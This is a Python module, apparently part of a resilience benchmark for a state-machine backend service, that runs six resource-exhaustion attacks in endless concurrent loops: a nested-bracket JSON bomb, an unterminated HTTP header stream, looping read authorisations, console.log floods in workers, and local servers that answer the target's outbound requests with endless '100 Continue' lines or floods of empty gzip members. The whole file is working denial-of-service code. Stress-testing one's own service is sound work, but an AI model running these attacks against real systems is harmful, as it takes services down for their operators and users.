"""One attack at full force, as a process of its own: `python -m bench.attack NAME URL ORG TOKEN`. It goes on
until it is ended; what it gets for an answer does not interest it."""

import asyncio
import gzip
import json
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import NamedTuple
from urllib.parse import urlsplit

import httpx

MACHINE = "attacker"
BOMB = b'{"event": ' + b"[" * 70 + b'"' + b'\\"' * 15_000
CONTINUES = b"HTTP/1.1 100 Continue\r\n\r\n" * 2_000
MEMBERS = gzip.compress(b"") * 3_000


class Attack(NamedTuple):
    """`token` is that of the machine's owner, or of an anonymous session."""

    url: str
    org: str
    token: str

    def client(self, **headers: str) -> httpx.AsyncClient:
        said = {"authorization": f"Bearer {self.token}", "x-statebacked-org-id": self.org, **headers}
        return httpx.AsyncClient(base_url=self.url, headers=said, timeout=60)


async def for_ever(what: Callable[[], Awaitable[object]], times: int) -> None:
    """That many at once, each again and again."""

    async def again() -> None:
        while True:
            with suppress(httpx.HTTPError, OSError):
                await what()
            await asyncio.sleep(0.005)

    await asyncio.gather(*(again() for _ in range(times)))


async def quotes(attack: Attack) -> None:
    """30 KB that are nearly JSON, by an anonymous session."""
    async with attack.client(**{"content-type": "application/json"}) as http:
        await for_ever(lambda: http.post(f"/machines/{MACHINE}/i/0/events", content=BOMB), 4)


async def headers(attack: Attack) -> None:
    """A head that does not end, on connections without a token."""
    place = urlsplit(attack.url)

    async def connection() -> None:
        _, writer = await asyncio.open_connection(place.hostname, place.port)
        try:
            writer.write(b"POST /machines HTTP/1.1\r\nhost: localhost\r\n")
            while not writer.is_closing():
                writer.write(b"x-header: " + b"x" * 8_000 + b"\r\n")
                await writer.drain()
        finally:
            writer.close()

    await for_ever(connection, 4)


async def loops(attack: Attack) -> None:
    """allowRead that does not end, beside readers whom it admits."""
    looping, usual = json.dumps({"sub": "loops"}), json.dumps({"sub": "usual"})
    async with attack.client() as http:

        def read(n: int, act: str) -> Callable[[], Awaitable[object]]:
            return lambda: http.get(f"/machines/{MACHINE}/i/{n}", headers={"x-statebacked-act": act})

        await asyncio.gather(
            for_ever(read(0, looping), 2), *(for_ever(read(n, usual), 2) for n in range(1, 4))
        )


async def logs(attack: Attack) -> None:
    """`console.log("")` in a loop, in the workers of four machines."""
    async with attack.client() as http:
        await asyncio.gather(
            *(
                for_ever(lambda n=n: event(http, f"{MACHINE}-{n}", {"type": "flood"}), 1)  # type: ignore[misc]
                for n in range(4)
            )
        )


async def continues(attack: Attack) -> None:
    """16 requests at a time to a server that says 100 Continue without end."""
    await bad_server(attack, [CONTINUES] * 1_000)


async def members(attack: Attack) -> None:
    """16 requests at a time to a server whose answer is empty members of gzip."""
    head = b"HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: 9900000\r\n\r\n"
    await bad_server(attack, [head, *[MEMBERS] * (9_900_000 // len(MEMBERS) + 1)])


async def bad_server(attack: Attack, answer: list[bytes]) -> None:
    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(OSError, asyncio.IncompleteReadError):
            await reader.readuntil(b"\r\n\r\n")
            for piece in answer:
                writer.write(piece)
                await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/"
    async with attack.client() as http:
        await for_ever(lambda: event(http, MACHINE, {"type": "ask", "url": url}), 1)


async def event(http: httpx.AsyncClient, machine: str, event: dict[str, str]) -> None:
    """And a while for what it begins."""
    asyncio.get_running_loop().create_task(
        ignored(http.post(f"/machines/{machine}/i/0/events", json={"event": event}))
    )
    await asyncio.sleep(3)


async def ignored(answer: Awaitable[object]) -> None:
    with suppress(httpx.HTTPError):
        await answer


ATTACKS = {attack.__name__: attack for attack in (quotes, headers, loops, logs, continues, members)}
ATTACK_NAMES = {
    "quotes": "30 KB of quotes by an anonymous session",
    "headers": "heads without an end",
    "loops": "allowRead that does not end, and other readers",
    "logs": "console.log in a loop, four machines",
    "continues": "16 requests to a server that says 100 Continue without end",
    "members": "16 requests to a server that sends empty gzip members",
}

if __name__ == "__main__":
    asyncio.run(ATTACKS[sys.argv[1]](Attack(*sys.argv[2:])))
